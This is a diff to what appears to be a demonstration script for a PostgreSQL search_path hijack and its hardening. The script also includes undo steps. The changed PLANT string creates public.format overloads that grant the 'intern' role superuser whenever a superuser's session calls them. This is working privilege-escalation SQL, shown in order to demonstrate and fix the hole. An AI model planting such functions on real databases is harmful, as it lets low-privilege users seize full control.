@@ -33,15 +33,22 @@ GRANT CREATE, USAGE ON SCHEMA public TO intern;
 GRANT USAGE ON SCHEMA pggit TO intern;
 GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA pggit TO intern;
 GRANT USAGE ON ALL SEQUENCES IN SCHEMA pggit TO intern"""
-# More specific than format(text, VARIADIC "any"), so that a function without a search_path of its own takes it.
+# More specific than format(text, VARIADIC "any"), with as many arguments as a call may have: a function without a
+# search_path of its own takes one of them.
 PLANT = """
-CREATE FUNCTION public.format(text, text, text, text) RETURNS text LANGUAGE plpgsql AS $$
+DO $do$
 BEGIN
-    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
-        ALTER ROLE intern SUPERUSER;
-    END IF;
-    RETURN $1;
-END $$"""
+    FOR number IN 1..6 LOOP
+        EXECUTE format(
+            'CREATE FUNCTION public.format(text%s) RETURNS text LANGUAGE plpgsql AS $$
+             BEGIN
+                 IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+                     ALTER ROLE intern SUPERUSER;
+                 END IF;
+                 RETURN $1;
+             END $$', repeat(', text', number));
+    END LOOP;
+END $do$"""
 IS_SUPERUSER = "SELECT rolsuper FROM pg_roles WHERE rolname = 'intern'"
 TABLES = count(1)
 
@@ -80,9 +87,10 @@ def show(connect: Callable[[], psycopg.Connection], console: Console) -> None:
     def query(text: str) -> None:
         say(Text(text.strip() + ";", style="dim"))
 
-    def attack(connection: psycopg.Connection) -> None:
+    def attack() -> None:
         query("CREATE TABLE public.payroll (id integer)")
-        found = becomes_superuser(connection)
+        with connect() as superuser:  # a session that has no plans yet, as any other one
+            found = becomes_superuser(superuser)
         say(
             f"  {ROLE} is [bold red]a superuser now[/]"
             if found
@@ -101,7 +109,7 @@ def show(connect: Callable[[], psycopg.Connection], console: Console) -> None:
         console.print()
         say(Text(f"-- {ROLE}, a role that may run DDL, leaves public.format() behind; then:", style="dim"))
         plant(connection)
-        attack(connection)
+        attack()
         console.print()
         query(HARDEN)
         try:
@@ -111,8 +119,8 @@ def show(connect: Callable[[], psycopg.Connection], console: Console) -> None:
             return
         say(f"  {len(done)} changes, each with its undo")
     with connect() as connection:
-        attack(connection)
+        attack()
         score(connection)
         query(UNDO)
         say(f"  {len(ask(connection, UNDO))} undone")
-        attack(connection)
+        attack()
